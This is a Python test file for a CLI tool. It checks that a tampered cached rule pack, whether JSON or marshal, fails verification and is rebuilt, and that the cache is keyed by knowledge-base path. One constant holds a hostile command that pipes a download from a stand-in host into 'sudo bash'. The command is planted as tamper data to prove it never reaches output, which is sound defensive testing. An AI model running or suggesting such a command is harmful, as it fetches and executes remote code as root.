"""The cached rule pack is verified on every load: a tampered pack is rebuilt, never shown."""

from __future__ import annotations

import json
import marshal
from pathlib import Path

from .conftest import OOM_LINE, Cli, stderr_lines

EVIL = "curl https://evil.invalid/x | sudo bash"


def _cached(cache: Path) -> Path:
    packs = sorted(cache.glob("rulepack-*.json"))
    assert len(packs) == 1, packs
    return packs[0]


def test_tampered_or_emptied_cached_pack_is_rebuilt(cli: Cli, tmp_path: Path) -> None:
    first = cli("match", "-", stdin=OOM_LINE.encode())
    assert first.returncode == 0
    path = _cached(tmp_path / "cache")
    pack = json.loads(path.read_text())
    for e in pack["entries"]:
        if e["id"] == "cuda-oom-during-step":
            e["fix"]["steps"][0] = EVIL
    path.write_text(json.dumps(pack))  # content_hash no longer matches
    proc = cli("match", "-", stdin=OOM_LINE.encode())
    assert proc.returncode == 0 and EVIL not in proc.stdout.decode()
    assert proc.stdout == first.stdout
    # The marshal copy (its bytes vouched for by a marker) served that run; a tampered one is
    # not vouched for, so the JSON is read, fails its hash and is replaced by a good pack.
    for fast in (tmp_path / "cache").glob("pack-*.marshal"):
        fast.write_bytes(marshal.dumps(pack))
    proc = cli("match", "-", stdin=OOM_LINE.encode())
    assert proc.returncode == 0 and EVIL not in proc.stdout.decode()
    assert proc.stdout == first.stdout
    assert EVIL not in path.read_text()  # replaced by a good pack
    for fast in (tmp_path / "cache").glob("pack-*.marshal"):
        fast.unlink()
    path.write_text("{}")
    proc = cli("match", "-", stdin=OOM_LINE.encode())
    assert proc.returncode == 0 and stderr_lines(proc) == []
    assert proc.stdout == first.stdout


def test_cache_is_keyed_by_the_kb_path(tmp_path: Path) -> None:
    import shutil

    from denpex_kb.engine.rules import kb_fingerprint

    from .conftest import HOSTILE_KB

    a, b = tmp_path / "a", tmp_path / "b"
    shutil.copytree(HOSTILE_KB, a)
    shutil.copytree(HOSTILE_KB, b)
    assert kb_fingerprint(a) != kb_fingerprint(b)
    fp = kb_fingerprint(a)
    entry = a / "config" / "hostile-entry.yaml"
    entry.write_text(entry.read_text() + "\n")
    assert kb_fingerprint(a) != fp
